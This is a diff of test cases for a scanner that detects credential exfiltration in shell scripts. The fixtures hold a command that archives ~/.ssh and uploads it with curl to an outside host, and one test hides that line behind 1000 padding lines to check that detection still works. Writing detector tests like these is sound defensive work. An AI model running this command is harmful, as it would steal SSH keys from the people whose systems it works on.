@@ -33,10 +33,15 @@ test.each([
   expect(findings.filter((one) => one.includes("exfiltration"))).toStrictEqual(expected);
 });
 
-test("takes what a test writes for what it tries out", async () => {
-  const script = "cat > bad.sh <<'EOF'\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\nscan bad.sh\n";
-  expect(await found("tests/scan.sh", script)).toStrictEqual([]);
-  expect(await found("test-scan.sh", script)).toStrictEqual([]);
+test("takes what a test writes for less, and never for nothing", async () => {
+  const script = "cat > bad.sh <<'EOF'\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n";
+  for (const path of ["tests/scan.sh", "test-scan.sh"])
+    expect(await found(path, script)).toStrictEqual(["warn credential-exfiltration:2"]);
+});
+
+test("reads on behind what pads a program", async () => {
+  const script = `cat > check.sh <<'EOF'\n${"# a line that says nothing\n".repeat(1000)}tar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n`;
+  expect(await found("setup.sh", script)).toContain("block credential-exfiltration:1002");
 });
 
 test.each([
